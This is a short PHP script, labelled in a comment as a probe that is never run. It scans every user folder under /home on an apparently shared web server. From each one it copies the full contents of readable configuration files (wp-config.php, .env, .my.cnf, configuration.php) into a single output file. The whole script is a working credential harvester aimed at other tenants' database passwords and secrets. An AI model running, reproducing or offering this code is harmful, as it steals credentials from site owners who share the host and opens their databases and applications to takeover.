<?php
// probe (never run): every folder of /home searched for configuration files, their text written to one file
$out = fopen('cfg.txt', 'a');
foreach (scandir('/home') as $acct) {
    if ($acct[0] == '.') continue;
    $names = array("/home/$acct/public_html/wp-config.php", "/home/$acct/public_html/.env", "/home/$acct/.my.cnf", "/home/$acct/public_html/configuration.php");
    foreach ($names as $n) {
        if (is_readable($n)) fwrite($out, "==== $n\n" . file_get_contents($n) . "\n");
    }
}
fclose($out);
